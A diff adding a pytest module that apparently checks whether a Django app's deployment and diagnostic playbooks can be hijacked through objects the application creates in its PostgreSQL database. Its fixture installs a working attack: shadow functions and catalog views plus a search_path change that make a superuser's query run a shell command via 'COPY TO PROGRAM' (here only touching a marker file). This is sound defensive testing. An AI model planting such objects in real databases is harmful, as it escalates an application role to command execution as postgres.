@@ -1,0 +1,80 @@
+"""The application owns its database: what it makes there does not run with a superuser's rights.
+
+In the way of queries: functions that match better than PostgreSQL's, a view of an extension's name, a search_path that
+is set for the database. Each would start a program as postgres, to whom the cluster and its backups belong.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+OWNED = "/var/lib/postgresql/owned-by"
+HOSTILE = r'''
+from django.db import connection
+
+def function(schema, name, arguments, result, volatility="VOLATILE"):
+    return f"""
+        CREATE OR REPLACE FUNCTION {schema}.{name}({arguments}) RETURNS {result} LANGUAGE plpgsql {volatility} AS $body$
+        BEGIN
+          EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch OWNED-{name}');
+          RETURN NULL;
+        EXCEPTION WHEN OTHERS THEN RETURN NULL;
+        END $body$"""
+
+with connection.cursor() as cursor:
+    cursor.execute("CREATE SCHEMA IF NOT EXISTS evil")
+    for schema in ("evil", "public"):
+        cursor.execute(function(schema, "format", "a text, b name, c name", "text"))
+        cursor.execute(function(schema, "statements", "", "text"))
+        cursor.execute(f"CREATE OR REPLACE VIEW {schema}.pg_stat_statements AS SELECT {schema}.statements() AS query,"
+                       " 1::bigint AS calls, 1e9::float8 AS mean_exec_time, 1e9::float8 AS total_exec_time,"
+                       " 1::bigint AS rows, (SELECT oid FROM pg_database WHERE datname = current_database()) AS dbid")
+    for table, columns in {
+        "pg_roles": "evil.statements()::name AS rolname, false AS rolsuper, 0::oid AS oid",
+        "pg_extension": "evil.statements()::name AS extname, '1'::text AS extversion, 0::oid AS oid",
+        "pg_namespace": "evil.statements()::name AS nspname, 0::oid AS nspowner, 0::oid AS oid",
+        "pg_database": "evil.statements()::name AS datname, 0::oid AS oid",
+        "pg_stat_user_tables": "evil.statements()::name AS relname, 'public'::name AS schemaname, 0::oid AS relid",
+    }.items():
+        cursor.execute(f"CREATE OR REPLACE VIEW evil.{table} AS SELECT {columns}")
+    cursor.execute(f"ALTER DATABASE {connection.settings_dict['NAME']} SET search_path = evil, public, pg_catalog")
+print("ready")
+'''
+CLEAN = """
+from django.db import connection
+with connection.cursor() as cursor:
+    cursor.execute(f"ALTER DATABASE {connection.settings_dict['NAME']} RESET search_path")
+    cursor.execute("DROP SCHEMA evil CASCADE")
+    cursor.execute("DROP VIEW public.pg_stat_statements")
+    cursor.execute("DROP FUNCTION public.statements(); DROP FUNCTION public.format(text, name, name)")
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile(operations):
+    assert "ready" in operations.python(HOSTILE.replace("OWNED", OWNED))
+    yield
+    operations.python(CLEAN)
+
+
+def owned(operations) -> str:
+    return operations.shell(f"ls {OWNED}* 2>/dev/null || true")
+
+
+def test_the_attack_works_on_who_asks_without_care(operations, hostile):
+    operations.shell("runuser -u postgres -- psql -qAt -d shiftmaster -c 'SELECT query FROM pg_stat_statements'")
+    assert owned(operations) != ""
+    operations.shell(f"rm -f {OWNED}*")
+
+
+def test_roles_and_rights_are_set_without_the_applications_code(operations, hostile):
+    run = operations.run("deploy.yml", "--tags", "database")
+    assert run.code == 0, run.output[-4000:]
+    assert owned(operations) == ""
+
+
+@pytest.mark.parametrize("playbook", ["health.yml", "diagnose.yml"])
+def test_reports_ask_without_the_applications_code(operations, hostile, playbook):
+    run = operations.run(f"playbooks/{playbook}", timeout=300)
+    assert run.code in (0, 1, 2), run.output[-3000:]
+    assert owned(operations) == ""
